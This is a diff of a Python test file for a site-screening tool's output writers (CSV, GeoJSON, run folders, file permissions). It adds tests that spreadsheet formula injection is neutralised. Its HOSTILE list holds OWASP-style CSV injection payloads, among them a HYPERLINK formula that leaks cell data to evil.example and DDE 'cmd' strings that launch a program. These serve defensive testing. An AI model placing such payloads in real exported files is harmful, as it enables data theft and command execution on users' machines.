@@ -1,6 +1,10 @@
+import csv
 import json
 import os
+import re
+import stat
 
+import numpy as np
 import pandas as pd
 import pytest
 
@@ -10,7 +14,10 @@ from sitescreen.outputs.run_folder import (
     geojson_writer,
     json_bytes,
     latest_run,
+    neutralise_cell,
+    restore_cell,
     site_features,
+    site_results_frame,
     write_run,
 )
 
@@ -80,30 +87,117 @@ def test_leftovers_of_killed_runs_are_cleaned_but_fresh_ones_kept(tmp_path):
     assert fresh.exists()  # may belong to a run still writing
 
 
-def test_csv_writer_puts_the_comment_line_above_a_table_pandas_reads_back(tmp_path):
+def test_csv_writer_writes_a_header_row_first_that_pandas_reads_back(tmp_path):
     frame = pd.DataFrame({"site_id": ["a", "b,2", 'q"x'], "year": [2030, 2050, 2030],
                           "value": [0.1, float("nan"), 3.25], "exact": [True, False, True],
                           "flags": ["", "no-data", ""]})
     path = tmp_path / "t.csv"
-    csv_writer(frame, comment="# provenance line\n")(path)
+    csv_writer(frame)(path)
 
     lines = path.read_text("utf-8").splitlines()
-    assert lines[0] == "# provenance line" and len(lines) == 5
-    back = pd.read_csv(path, comment="#", keep_default_na=False, na_values={"value": [""]})
+    assert lines[0].startswith('"site_id"') and len(lines) == 4  # no comment line
+    back = pd.read_csv(path, keep_default_na=False, na_values={"value": [""]})
     assert back["site_id"].tolist() == ["a", "b,2", 'q"x']  # quoting survives the round trip
     assert back["year"].tolist() == [2030, 2050, 2030]
     assert back["value"].iloc[0] == 0.1 and pd.isna(back["value"].iloc[1])
     assert back["exact"].tolist() == [True, False, True]
-    with pytest.raises(ValueError, match="starts with '#'"):
-        csv_writer(frame, comment="no hash\n")
+
+
+# Cells a spreadsheet would evaluate (OWASP CSV injection), and cells it must leave alone.
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+           "\n=1+1", "'=already quoted", "''+twice"]
+HARMLESS = ["Shanghai office", "-12.5", "+3e4", "12", "a=b", " =spaced", "'s-Hertogenbosch",
+            ""]
+
+
+def _formula_like(cell: str) -> bool:
+    return bool(re.match(r"^[=+\-@\t\r\n]", cell)) and not re.match(
+        r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$", cell)
+
+
+def test_neutralise_cell_guards_formulas_and_round_trips():
+    for cell in HOSTILE:
+        safe = neutralise_cell(cell)
+        assert safe.startswith("'") and not _formula_like(safe)
+        assert restore_cell(safe) == cell
+    for cell in HARMLESS:
+        assert neutralise_cell(cell) == cell and restore_cell(cell) == cell
+    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(None) is None
+
+
+@pytest.mark.parametrize("mixed", [False, True])
+def test_csv_writer_neutralises_formulas_but_not_numbers(tmp_path, mixed):
+    cells = HOSTILE + HARMLESS
+    frame = pd.DataFrame({"site_id": cells, "delta": np.arange(len(cells)) - 5.5})
+    if mixed:  # an object column Arrow cannot convert: the pandas path
+        frame["other"] = pd.Series([1, "x"] * (len(cells) // 2) + [1] * (len(cells) % 2),
+                                   dtype=object)
+    path = tmp_path / "t.csv"
+    csv_writer(frame)(path)
+    with open(path, encoding="utf-8", newline="") as fh:  # keep a lone CR as it is
+        rows = list(csv.reader(fh))
+    assert rows[0][:2] == ["site_id", "delta"]
+    got = [r[0] for r in rows[1:]]
+    assert not [c for c in got if _formula_like(c)]
+    assert [restore_cell(c) for c in got] == cells
+    assert [float(r[1]) for r in rows[1:]] == frame["delta"].tolist()  # -5.5 stays a number
+    assert rows[1][1] == "-5.5"
+
+
+def test_site_results_frame_adds_name_precision_and_origin():
+    sites = pd.DataFrame({"site_id": ["a", "b"], "name": ["A", "=B"],
+                          "geocode_precision": ["city", "coordinates"]})
+    table = pd.DataFrame({"site_id": ["b", "a", "b"], "hazard": "typhoon", "level": [1, 2, 0]})
+    out = site_results_frame(sites, table, data_origin="local")
+    assert list(out.columns) == ["site_id", "name", "geocode_precision", "hazard", "level",
+                                 "data_origin"]
+    assert out["name"].tolist() == ["=B", "A", "=B"]
+    assert out["geocode_precision"].tolist() == ["coordinates", "city", "coordinates"]
+    assert set(out["data_origin"]) == {"local"}
+
+
+def test_geojson_user_columns_are_numbers_when_they_hold_numbers():
+    sites = pd.DataFrame({"site_id": ["a", "b", "c"], "name": ["1", "2", "3"],
+                          "lon": [121.5, 121.6, 121.7], "lat": [31.2, 31.3, 31.4],
+                          "asset_value": ["1200000", "", "35.5"], "headcount": ["10", "20", ""],
+                          "code": ["007", "8", "9"]})
+    table = pd.DataFrame({"site_id": ["a", "b", "c"], "hazard": "typhoon",
+                          "scenario": "optimistic", "year": 2030, "level": [3, 0, 1],
+                          "level_low": [3, 0, 1], "level_high": [3, 0, 1],
+                          "value": [1.0, float("nan"), 2.0], "flags": "", "pathway": "ssp126"})
+    fc = json.loads(json_bytes(site_features(
+        sites, table, data_origin="local",
+        site_columns=["site_id", "name", "asset_value", "headcount", "code"])))
+    props = [f["properties"] for f in fc["features"]]
+    assert [p["asset_value"] for p in props] == [1200000.0, None, 35.5]
+    assert [p["headcount"] for p in props] == [10, 20, None]
+    assert [p["code"] for p in props] == ["007", "8", "9"]
+    assert [p["name"] for p in props] == ["1", "2", "3"]  # a site column, never converted
+    assert [p["typhoon_optimistic_2030_level"] for p in props] == [3, None, 1]
+
+
+@pytest.mark.parametrize("umask, folder, file", [(0o022, 0o755, 0o644), (0o027, 0o750, 0o640)])
+def test_run_folders_and_latest_follow_the_umask(tmp_path, umask, folder, file):
+    before = os.umask(umask)
+    try:
+        run = write_run(tmp_path, "run-1", {"a.csv": csv_writer(pd.DataFrame({"x": [1]})),
+                                            "sub/b.txt": b"two"})
+    finally:
+        os.umask(before)
+    mode = {p.relative_to(tmp_path).as_posix(): stat.S_IMODE(p.stat().st_mode)
+            for p in [run, run / "a.csv", run / "sub", run / "sub" / "b.txt",
+                      tmp_path / "LATEST"]}
+    assert mode == {"run-1": folder, "run-1/a.csv": file, "run-1/sub": folder,
+                    "run-1/sub/b.txt": file, "LATEST": file}
 
 
 def test_csv_writer_falls_back_to_pandas_for_mixed_object_columns(tmp_path):
     frame = pd.DataFrame({"mixed": pd.Series([1, "two", None], dtype=object)})
     path = tmp_path / "m.csv"
     csv_writer(frame)(path)
-    # pandas quotes a lone empty cell so the row is not a blank line
-    assert path.read_text("utf-8").splitlines() == ["mixed", "1", "two", '""']
+    # text quoted as the Arrow path quotes it; a lone empty cell so the row is not blank
+    assert path.read_text("utf-8").splitlines() == ['"mixed"', "1", '"two"', '""']
 
 
 def test_geojson_writer_streams_the_same_bytes_as_json_bytes(tmp_path):
@@ -117,3 +211,53 @@ def test_geojson_writer_streams_the_same_bytes_as_json_bytes(tmp_path):
     empty = {"type": "FeatureCollection", "features": iter(())}
     geojson_writer(empty)(tmp_path / "e.geojson")
     assert json.loads((tmp_path / "e.geojson").read_text())["features"] == []
+
+
+def _run_folder(out, run, run_id):
+    from sitescreen.outputs.run_files import render_files
+
+    sites, table, shares, manifest = run
+    manifest = {**manifest, "run_id": run_id, "created_at": f"2025-01-0{run_id[-1]}T00:00:00Z"}
+    files = render_files(sites=sites, table=table, shares_table=shares, manifest=manifest,
+                         out_root=out, report=False)
+    return write_run(out, run_id, files)
+
+
+def test_every_csv_of_a_run_neutralises_a_hostile_corpus(tmp_path):
+    from report_fixtures import SITES, build_run, sites_frame
+
+    hostile = [dict(site_id=cell, name=cell, city="Shanghai", country="CN", lon=121.4 + i / 100,
+                    lat=31.2, location_source="given", geocode_precision="coordinates")
+               for i, cell in enumerate(HOSTILE)]
+    base = sites_frame([dict(r) for r in SITES]).assign(**{"=cmd|' /C calc'!A0": "@x"})
+    more = sites_frame([dict(r) for r in SITES] + hostile).assign(
+        **{"=cmd|' /C calc'!A0": "@x"})
+    kw = dict(hazards=("typhoon",), years=(2030,))
+    _run_folder(tmp_path, build_run(sites=base, **kw), "20250101T000000Z-aaaaa1")
+    second = _run_folder(tmp_path, build_run(sites=more, **kw), "20250101T000000Z-aaaaa2")
+    third = _run_folder(tmp_path, build_run(sites=more, **kw), "20250101T000000Z-aaaaa3")
+
+    for run in (second, third):
+        for name in ("site_results.csv", "changes.csv", "summary.csv", "fields.csv"):
+            with open(run / name, encoding="utf-8", newline="") as fh:
+                rows = list(csv.reader(fh))
+            assert not rows[0][0].startswith("#"), name
+            assert len(rows) > 1 or (run, name) == (third, "changes.csv")  # no changes
+            bad = [c for r in rows for c in r if _formula_like(c)]
+            assert not bad, (run.name, name, bad)
+    results = pd.read_csv(second / "site_results.csv", keep_default_na=False)
+    assert {"name", "geocode_precision", "data_origin"} <= set(results.columns)
+    assert set(results["site_id"].map(restore_cell)) >= set(HOSTILE)
+    added = pd.read_csv(second / "changes.csv", keep_default_na=False)
+    added = added[added["change"] == "site added"]
+    assert set(added["site_id"].map(restore_cell)) == set(HOSTILE)
+    # Reading the neutralised ids back gives the same sites: nothing added or removed.
+    again = json.loads((third / "changes.json").read_text("utf-8"))
+    assert not again["sites_added"] and not again["sites_removed"]
+    fields = pd.read_csv(second / "fields.csv", keep_default_na=False)
+    names = set(fields["name"].map(restore_cell))
+    assert "=cmd|' /C calc'!A0" in names
+    # The dictionary covers every column of site_results.csv and sites.geojson.
+    assert set(results.columns) <= names
+    props = json.loads((second / "sites.geojson").read_text("utf-8"))["features"][0]
+    assert set(props["properties"]) <= names
